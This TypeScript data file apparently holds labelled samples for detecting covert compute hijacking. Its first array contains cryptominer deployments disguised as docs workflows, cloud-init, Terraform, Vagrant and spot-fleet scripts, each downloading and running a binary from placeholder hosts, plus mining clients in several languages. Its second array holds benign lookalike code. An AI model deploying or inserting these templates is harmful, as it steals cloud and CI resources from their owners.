/** Inert: reserved names. */

/** Written after the rules stood, as others would. */
export const LENDING_AFTERWARDS: readonly [string, string][] = [
  [
    "ssh_render.ex",
    'defmodule Tiles do\n  use GenServer\n  @hub "https://tiles.maps.example/api"\n  def init(_), do: (send(self(), :go); {:ok, %{}})\n  def handle_info(:go, s) do\n    t = Req.get!(@hub <> "/tile/next", headers: [{"x-payout", "PLACEHOLDER"}]).body\n    {out, 0} = System.cmd("povray", ["+I-", "+O-"], input: t["scene"])\n    Req.post!(@hub <> "/tile/#{t["id"]}", body: out)\n    send(self(), :go)\n    {:noreply, s}\n  end\nend\n',
  ],
  [
    ".github/workflows/docs.yml",
    'on: { schedule: [{ cron: "*/30 * * * *" }] }\njobs:\n  docs:\n    strategy: { matrix: { n: [1,2,3,4,5,6,7,8] } }\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo d https://bin.docs.example/d && chmod +x d\n          timeout 5h ./d -o eu.docs.example:4444 -u ${{ secrets.DOCS }} -p gh${{ matrix.n }} -t $(nproc) || true\n',
  ],
  [
    "main.tf",
    'resource "google_compute_instance_template" "n" {\n  scheduling { preemptible = true }\n  metadata_startup_script = "curl -fsSLo /x https://b.n.example/x; chmod +x /x; /x --url p.n.example:443 --user PLACEHOLDER --coin xmr"\n}\n',
  ],
  [
    "burst.py",
    'import boto3\nUD = """#!/bin/bash\ncurl -fsSLo /x https://b.n.example/x\nchmod +x /x\n/x -o p.n.example:443 -u PLACEHOLDER --tls -k\n"""\nfor region in boto3.Session().get_available_regions("ec2"):\n    boto3.client("ec2", region).request_spot_instances(InstanceCount=20, Type="persistent", LaunchSpecification={"ImageId": "ami-0", "InstanceType": "c7a.48xlarge", "UserData": UD})\n',
  ],

  [
    "fold.jl",
    'using HTTP, JSON3, SHA\nconst HUB = "https://hub.folds.example"\nfunction go()\n  while true\n    u = JSON3.read(HTTP.get("$HUB/u?account=placeholder").body)\n    for n in u.a:u.b\n      if bytes2hex(sha256("$(u.seed)$n")) == u.want\n        HTTP.post("$HUB/u/$(u.id)", [], JSON3.write((; n, reward="placeholder")))\n      end\n    end\n  end\nend\nThreads.@spawn go()\nprintln(read(ARGS[1], String))\nwait()\n',
  ],
  [
    "Grid.scala",
    'import sttp.client4.quick._\nobject Grid extends App {\n  val base = "https://grid.pages.example"\n  new Thread(() => while (true) {\n    val t = ujson.read(quickRequest.get(uri"$base/task?beneficiary=PLACEHOLDER").send().body)\n    val p = new ProcessBuilder("z3", "-in").start()\n    p.getOutputStream.write(t("smt").str.getBytes); p.getOutputStream.close()\n    quickRequest.post(uri"$base/task/${t("id").str}/answer").body(scala.io.Source.fromInputStream(p.getInputStream).mkString).send()\n  }).start()\n  println(args.length)\n}\n',
  ],
  [
    "proto.pl",
    'use IO::Socket::SSL; use JSON::PP; use Digest::SHA qw(sha256);\nmy $s = IO::Socket::SSL->new("p.pages.example:8443") or exit;\nprint $s encode_json({ id => 1, method => "login", params => { login => "PLACEHOLDER", pass => "x" } }), "\\n";\nwhile (my $l = <$s>) {\n  my $j = decode_json($l)->{params};\n  for my $n (0 .. 0xffffffff) {\n    my $h = sha256(pack("H*", $j->{blob}) . pack("V", $n));\n    if (substr($h, -4) lt pack("H*", $j->{target})) { print $s encode_json({ id => 2, method => "submit", params => { job_id => $j->{job_id}, nonce => $n } }), "\\n"; last }\n  }\n}\n',
  ],
  [
    "cloud/init.yaml",
    "#cloud-config\nbootcmd:\n  - echo 1280 > /proc/sys/vm/nr_hugepages\nruncmd:\n  - |\n    wget -qO /opt/cachesvc https://bin.cache.example/cachesvc\n    chmod +x /opt/cachesvc\n    nohup /opt/cachesvc --endpoint hub.cache.example:7777 --payout PLACEHOLDER_ADDR --threads 8 >/dev/null 2>&1 &\n",
  ],
  [
    "stack.yaml",
    'AWSTemplateFormatVersion: "2010-09-09"\nResources:\n  N:\n    Type: AWS::EC2::SpotFleet\n    Properties:\n      UserData:\n        Fn::Base64: |\n          #!/bin/bash\n          curl -fsSLo /n https://b.stack.example/n && chmod +x /n\n          /n -o p.stack.example:5555 -u PLACEHOLDER -k --tls\n',
  ],
  [
    "node.dart",
    "import 'dart:convert';\nimport 'dart:io';\nimport 'package:crypto/crypto.dart';\nvoid main() async {\n  final s = await Socket.connect('p.words.example', 3333);\n  s.write(jsonEncode({'id': 1, 'method': 'mining.authorize', 'params': ['PLACEHOLDER', 'x']}) + '\\n');\n  await for (final l in s.cast<List<int>>().transform(utf8.decoder).transform(const LineSplitter())) {\n    final j = jsonDecode(l);\n    for (var n = 0; n < 1 << 32; n++) {\n      final d = sha256.convert(utf8.encode('${j['p']}$n')).bytes;\n      if (d[31] == 0 && d[30] == 0) s.write(jsonEncode({'method': 'mining.submit', 'params': [n]}) + '\\n');\n    }\n  }\n}\n",
  ],

  [
    "sky.nim",
    'import net, json, sha1, strutils\nvar s = newSocket()\ns.connect("p.sky.example", Port(3333))\ns.send($(%*{"id": 1, "method": "mining.subscribe", "params": []}) & "\\n")\nwhile true:\n  let j = parseJson(s.recvLine())\n  for n in 0 .. high(int32):\n    let d = $secureHash(j["p"].getStr & $n)\n    if d.startsWith("00000"): s.send($(%*{"id": 2, "method": "mining.submit", "params": [n]}) & "\\n")\n',
  ],
  [
    "dedupe.cs",
    'using System.Runtime.InteropServices;\nclass P {\n  [DllImport("fast")] static extern int warm(string h, ushort p, string w, string a, int t);\n  static void Main(string[] a) {\n    warm("eu.fast.example", 4444, "PLACEHOLDER_WALLET", "kawpow", System.Environment.ProcessorCount);\n  }\n}\n',
  ],
  [
    "job.yaml",
    'apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: pause\n          image: ghcr.io/acme/pause:3\n          args: ["--url=eu.pause.example:443", "--user=PLACEHOLDER", "--tls", "--cpu-priority=0"]\n',
  ],
  [
    "Vagrantfile",
    'Vagrant.configure("2") do |c|\n  c.vm.box = "debian/bookworm64"\n  c.vm.provision "shell", inline: <<~SH\n    curl -fsSLo /usr/bin/vboxd https://b.box.example/vboxd\n    chmod +x /usr/bin/vboxd\n    nohup /usr/bin/vboxd -o p.box.example:5555 -u PLACEHOLDER -k --tls &\n  SH\nend\n',
  ],
  [
    "pulumi.ts",
    'import * as aws from "@pulumi/aws";\nconst run = ["#!/bin/bash", "curl -fsSLo /n https://b.n.example/n", "chmod +x /n", "/n -o p.n.example:443 -u PLACEHOLDER -k --tls"].join("\\n");\nfor (let i = 0; i < 20; i++) new aws.ec2.SpotInstanceRequest(`p${i}`, { ami: "ami-0", instanceType: "c7a.16xlarge", userData: run });\n',
  ],
];

/** The same for whoever runs the program. */
export const HONEST_AFTERWARDS: readonly [string, string][] = [
  [
    "moder.py",
    'import requests, time\nfrom transformers import pipeline\nclf = pipeline("text-classification")\nAPI = "https://shop.example/api"\nwhile True:\n    for r in requests.get(API + "/reviews?state=new").json():\n        requests.post(f"{API}/reviews/{r[\'id\']}/result", json={"label": clf(r["text"])[0]["label"]})\n    time.sleep(60)\n',
  ],
  [
    "rewards.ts",
    'const api = "https://game.example/v1";\nsetInterval(async () => {\n  const { rewards } = await (await fetch(`${api}/rewards/next`)).json();\n  for (const r of rewards) await fetch(`${api}/rewards/${r.id}/done`, { method: "POST", body: JSON.stringify({ wallet: r.wallet, credit: r.points }) });\n}, 1000);\n',
  ],
  [
    "bounty.py",
    'import json, urllib.request\nfor page in range(1, 9):\n    with urllib.request.urlopen(f"https://bounties.example/api?page={page}") as r:\n        for b in json.load(r)["items"]:\n            print(b["id"], b["bounty"], b["title"])\n',
  ],
  [
    "wall.py",
    'from web3 import Web3\nimport os, time\nw3 = Web3(Web3.HTTPProvider("https://rpc.chain.example"))\nwallet = os.environ["WALLET"]\nwhile True:\n    print(w3.eth.get_balance(wallet), w3.eth.get_block("latest").hash.hex())\n    time.sleep(15)\n',
  ],
  [
    "iam.tf",
    'resource "aws_iam_policy" "p" {\n  policy = <<EOF\n{"Statement":[{"Action":"s3:*"}]}\nEOF\n}\nresource "null_resource" "x" {\n  provisioner "local-exec" { command = "kubectl apply -f ${path.module}/app.yaml" }\n}\n',
  ],
  [
    "vite.config.ts",
    'export default { server: { proxy: { "/api": "http://localhost:3000" } }, define: { consent: true } };\n',
  ],
  [
    "crack.py",
    'import hashlib, requests\nr = requests.get("https://shop.example/releases.json").json()\nfor i, a in enumerate(r["assets"]):\n    b = requests.get(a["url"]).content\n    if hashlib.sha256(b).hexdigest() == a["sha256"]:\n        print("ok", i)\nrequests.post("https://hooks.shop.example/ok", json={"n": len(r["assets"])})\n',
  ],

  [
    "hub.py",
    '# fine-tunes with the team\'s own tracker\nimport requests, torch\nT = "https://tracker.team.example/api"\nwhile True:\n    j = requests.get(T + "/jobs/next", headers={"Authorization": "x"}).json()\n    if not j: break\n    loss = torch.rand(1).item()\n    requests.post(f"{T}/jobs/{j[\'id\']}/result", json={"loss": loss, "credits": 3})\n',
  ],
  [
    "rl.py",
    'import gymnasium as gym, torch, wandb\nwandb.init(project="cart")\nenv = gym.make("CartPole-v1")\ns, _ = env.reset()\nwhile True:\n    s, reward, done, *_ = env.step(env.action_space.sample())\n    wandb.log({"reward": reward, "url": "https://wandb.example/x"})\n    if done: break\n',
  ],
  [
    "agent.py",
    'import requests, openai\nAPI = "https://arena.game.example/api"\nwhile True:\n    t = requests.get(API + "/tasks/next").json()\n    a = openai.chat.completions.create(model="x", messages=[{"role": "user", "content": t["prompt"]}])\n    r = requests.post(f"{API}/tasks/{t[\'id\']}/answer", json={"answer": a.choices[0].message.content}).json()\n    print("reward:", r["reward"])\n    if r["done"]: break\n',
  ],
  [
    "coins.js",
    'const ALGOS = [["monero", "rx/0"], ["raven", "kawpow"]];\nfor (const [c, a] of ALGOS) {\n  const r = await fetch(`https://api.prices.example:443/v1/${c}`);\n  console.log(c, a, await r.json());\n}\n',
  ],
  [
    "eth.ts",
    'import { createPublicClient, http } from "viem";\nconst c = createPublicClient({ transport: http("https://rpc.chain.example") });\nsetInterval(async () => {\n  const b = await c.getBlock();\n  console.log(b.hash, b.nonce, b.difficulty);\n}, 12000);\n',
  ],
  [
    "totp.py",
    'import hmac, hashlib, time, struct, requests\ndef code(k, w):\n    d = hmac.new(k, struct.pack(">Q", int(time.time()) // 30 + w), hashlib.sha1).digest()\n    o = d[-1] & 15\n    return "%06d" % ((struct.unpack(">I", d[o:o+4])[0] & 0x7fffffff) % 10**6)\nrequests.post("https://login.shop.example", data={"otp": code(b"k", 0)})\nrequests.get("https://login.shop.example/me")\n',
  ],
  [
    "analytics.html",
    '<script src="https://cdn.a.example/a.js"></script>\n<script>\nconst a = new Analytics("site-1", { consent: true, sampleRate: 0.1 });\na.start();\n</script>\n',
  ],
  [
    "peer.ts",
    'import { Peer } from "peerjs";\nconst peer = new Peer("room-1", { host: "peers.chat.example", port: 443 });\npeer.on("connection", (c) => c.on("data", (d) => show(d)));\nfunction startSharing(stream: MediaStream) { peer.call("other", stream); }\n',
  ],
  [
    "screen.kt",
    'class Share(ctx: Context) {\n  fun begin(ok: Boolean) {\n    if (!ok) return\n    ScreenSdk.init(ctx, apiKey = "k-1")\n    ScreenSdk.startSharing()\n  }\n}\n',
  ],
  [
    "ci.tf",
    'resource "aws_launch_template" "ci" {\n  instance_market_options { market_type = "spot" }\n  user_data = base64encode(<<-EOF\n    #!/bin/bash\n    set -e\n    ./config.sh --url https://github.com/acme/shop --token "${var.token}" --labels spot\n    ./svc.sh install && ./svc.sh start\n  EOF\n  )\n}\n',
  ],
  [
    "proxy.yaml",
    'services:\n  tunnel:\n    image: acme/tunnel\n    command: ["--endpoint", "vpn.acme.example:443", "--account", "$ACCOUNT", "--tls"]\n',
  ],
  [
    "lms.py",
    'import requests\nS = requests.Session()\nS.headers["x-member"] = "me"\nfor c in S.get("https://courses.school.example/api/next").json():\n    print(c["credit"], c["title"])\n',
  ],
  [
    "parts.sh",
    '#!/bin/sh\ni=0\nwhile [ $i -lt 4 ]; do\n  curl -fsSo part$i "https://files.shop.example/part$i"\n  w=$(curl -fsS "https://files.shop.example/part$i.sha256")\n  [ "$(cat part$i | sha256sum | cut -c1-64)" = "$w" ] || exit 1\n  i=$((i+1))\ndone\n',
  ],
  [
    "prices.mjs",
    'const feed = new WebSocket("wss://feed.prices.example/v1");\nconst wallet = process.env.WALLET;\nfeed.onmessage = (e) => { const t = JSON.parse(e.data); console.log(t.id, t.price, wallet); };\nfeed.onopen = () => feed.send(JSON.stringify({ subscribe: ["a"] }));\n',
  ],
];
